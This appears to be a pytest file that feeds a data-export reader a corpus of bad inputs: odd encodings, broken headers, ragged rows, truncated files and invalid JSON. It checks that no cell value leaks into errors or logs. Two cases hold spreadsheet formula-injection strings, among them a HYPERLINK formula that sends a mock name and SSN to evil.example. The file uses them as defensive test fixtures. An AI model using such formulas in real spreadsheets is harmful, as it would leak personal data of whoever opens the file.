"""Bad-input corpus, generated in tmp_path: every case ends in a clear error or row-level issues.

For each input: either a ReadError naming the file (and row / field when relevant) with a code, or a
table plus row-level issues where nothing is lost (rows read = valid + flagged; blank rows counted).
No exception message, report or log line contains a cell value.
"""

from __future__ import annotations

import gzip
import json
import logging
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from pipelines.readers import ReadError, read_export
from pipelines.tableschema import validate

SECRET = "Jane Doe 555-12-3456"

CONTRACT = {
    "missingValues": [""],
    "fields": [
        {"name": "stop_id", "type": "integer", "constraints": {"required": True, "unique": True}},
        {"name": "stop_date", "type": "date", "format": "%m/%d/%Y", "aliases": ["Date of Stop"]},
        {"name": "subject", "type": "string"},
        {"name": "race", "type": "string", "constraints": {"enum": ["W", "B", "A"]}},
    ],
}
HEADER = "stop_id,stop_date,subject,race\n"


def _w(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def _row(i: int, subject: str = "x", race: str = "W", date: str = "01/02/2020") -> str:
    return f'{i},{date},"{subject}",{race}\n'


# name -> (builder(tmp_path) -> path, expected ReadError code or None)
Case = tuple[Callable[[Path], Path], str | None]


def _xlsx_formulas(tmp: Path) -> Path:
    openpyxl = pytest.importorskip("openpyxl")
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["stop_id", "stop_date", "subject", "race"])
    ws.append([1, "01/02/2020", f'=HYPERLINK("http://evil.example/?q={SECRET}")', "W"])
    ws.append([2, "01/02/2020", "=A2*2", "W"])
    ws.append([3, "01/02/2020", "plain", "B"])
    p = tmp / "formulas.xlsx"
    wb.save(p)
    return p


CASES: dict[str, Case] = {
    "cp1252 (declared nowhere)": (
        lambda t: _w(t / "cp.csv", HEADER + _row(1, "Müller José") + _row(2, "Ångström"), "cp1252"),
        None,
    ),
    "cp1252 byte past the sniffed sample": (
        lambda t: _w_bytes(
            t / "late.csv",
            (HEADER + "".join(_row(i) for i in range(1, 60_001))).encode()
            + _row(60_001, "José").encode("cp1252"),
        ),
        None,
    ),
    "utf-8 with BOM": (lambda t: _w(t / "bom.csv", "\ufeff" + HEADER + _row(1)), None),
    "utf-16": (lambda t: _w(t / "u16.csv", HEADER + _row(1, "Zoë"), "utf-16"), None),
    "missing header": (
        lambda t: _w(t / "mh.csv", "stop_date,subject,race\n01/02/2020,a,W\n"),
        "missing-label",
    ),
    "extra header": (
        lambda t: _w(t / "eh.csv", "stop_id,stop_date,subject,race,ssn\n1,01/02/2020,a,W,1\n"),
        "extra-label",
    ),
    "duplicated header": (
        lambda t: _w(t / "dh.csv", "stop_id,stop_date,Stop ID,race\n1,01/02/2020,2,W\n"),
        "duplicate-label",
    ),
    "renamed header (alias)": (
        lambda t: _w(t / "rh.csv", "STOP_ID,Date of Stop,Subject,RACE\n" + _row(1)),
        None,
    ),
    "blank and ragged rows": (
        lambda t: _w(
            t / "rr.csv",
            HEADER + _row(1) + "\n" + f"2,01/02/2020,{SECRET}\n" + _row(3) + f"4,a,b,W,{SECRET}\n" + ",,,\n",
        ),
        None,
    ),
    "wrong types": (
        lambda t: _w(t / "wt.csv", HEADER + _row(1) + _row(2, date="2020-01-02") + f"{SECRET},x,y,Q\n"),
        None,
    ),
    "10 MB cell": (lambda t: _w(t / "big.csv", HEADER + _row(1, "A" * 10_000_000) + _row(2)), None),
    "empty file": (lambda t: _w(t / "empty.csv", ""), "source-error"),
    "header only": (lambda t: _w(t / "ho.csv", HEADER), None),
    "binary file": (
        lambda t: _w_bytes(t / "bin.csv", os.urandom(4096) + b"\x00\x00" + SECRET.encode()),
        "format-error",
    ),
    "truncated gzip": (
        lambda t: _w_bytes(t / "tr.csv.gz", gzip.compress((HEADER + _row(1) * 5000).encode())[:300]),
        "compression-error",
    ),
    "xlsx with formulas": (_xlsx_formulas, None),
    "csv injection strings": (
        lambda t: _w(
            t / "inj.csv",
            HEADER
            + _row(1, '=HYPERLINK(""http://evil.example"",""x"")')
            + _row(2, "+1-555")
            + _row(3, "-2+3")
            + _row(4, "@SUM(A1)"),
        ),
        None,
    ),
    "invalid json": (lambda t: _w(t / "bad.json", f'[{{"stop_id": "{SECRET}"'), "format-error"),
    "json not an array": (lambda t: _w(t / "obj.json", json.dumps({"stop_id": 1})), "format-error"),
    "unterminated quote": (
        lambda t: _w(t / "uq.csv", HEADER + _row(1) + f'2,01/02/2020,"{SECRET},W\n'),
        None,
    ),
    "missing file": (lambda t: t / "nope.csv", "scheme-error"),
}


def _w_bytes(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


@pytest.mark.parametrize("name", list(CASES))
def test_bad_input(tmp_path: Path, name: str, caplog: pytest.LogCaptureFixture) -> None:
    builder, expected_code = CASES[name]
    path = builder(tmp_path)
    with caplog.at_level(logging.DEBUG):
        try:
            export = read_export(path, CONTRACT)
        except ReadError as exc:
            assert expected_code is not None, f"{name}: unexpected {exc.code}"
            assert exc.code == expected_code
            assert path.name in str(exc)
            assert SECRET not in str(exc) and SECRET not in repr(exc.to_dict())
            assert SECRET not in caplog.text
            return
        assert expected_code is None, f"{name}: expected {expected_code}"
        report = validate(export.table, CONTRACT, row_numbers=export.row_numbers)
    # nothing lost: rows read = in the table + quarantined; table rows = valid + flagged
    assert export.rows_read == export.table.num_rows + len(export.issue_rows)
    valid_rows = export.table.num_rows - len(report.error_rows())
    assert valid_rows >= 0
    assert valid_rows + len(report.error_rows()) + len(export.issue_rows) == export.rows_read
    # every physical data row is accounted for exactly once
    seen = export.row_numbers.to_pylist() + sorted(export.issue_rows) + export.blank_row_numbers
    assert len(seen) == len(set(seen))
    for text in (repr(export), json.dumps(report.to_dict()), caplog.text, repr(export.issues)):
        assert SECRET not in text


def test_expected_row_level_outcomes(tmp_path: Path) -> None:
    e = read_export(CASES["blank and ragged rows"][0](tmp_path), CONTRACT)
    assert e.blank_rows == 2
    assert sorted({(i.row, i.code) for i in e.issues}) == [(4, "missing-cell"), (6, "extra-cell")]
    assert e.row_numbers.to_pylist() == [2, 5]

    e = read_export(CASES["wrong types"][0](tmp_path), CONTRACT)
    r = validate(e.table, CONTRACT, row_numbers=e.row_numbers)
    assert {(x.row, x.field, x.code) for x in r.errors} == {
        (3, "stop_date", "type-error"),
        (4, "stop_id", "type-error"),
        (4, "stop_date", "type-error"),
        (4, "race", "constraint-error"),
    }

    e = read_export(CASES["cp1252 (declared nowhere)"][0](tmp_path), CONTRACT)
    assert e.encoding == "cp1252" and e.table.column("subject").to_pylist() == ["Müller José", "Ångström"]

    e = read_export(CASES["cp1252 byte past the sniffed sample"][0](tmp_path), CONTRACT)
    assert e.encoding == "cp1252" and e.table.column("subject")[-1].as_py() == "José"

    e = read_export(CASES["10 MB cell"][0](tmp_path), CONTRACT)
    assert e.table.num_rows == 2 and len(e.table.column("subject")[0].as_py()) == 10_000_000

    e = read_export(CASES["csv injection strings"][0](tmp_path), CONTRACT)
    # read verbatim (neutralizing is the CSV writer's job); never evaluated
    assert e.table.column("subject").to_pylist() == [
        '=HYPERLINK("http://evil.example","x")',
        "+1-555",
        "-2+3",
        "@SUM(A1)",
    ]

    e = read_export(CASES["xlsx with formulas"][0](tmp_path), CONTRACT)
    assert e.table.column("stop_id").to_pylist() == ["3"]
    assert sorted((i.row, i.code, i.field) for i in e.issues) == [
        (2, "formula-cell", "subject"),
        (3, "formula-cell", "subject"),
    ]

    e = read_export(CASES["header only"][0](tmp_path), CONTRACT)
    assert e.table.num_rows == 0 and e.rows_read == 0

    e = read_export(CASES["unterminated quote"][0](tmp_path), CONTRACT)
    assert e.table.column("stop_id").to_pylist() == ["1"] and [i.row for i in e.issues] == [3]
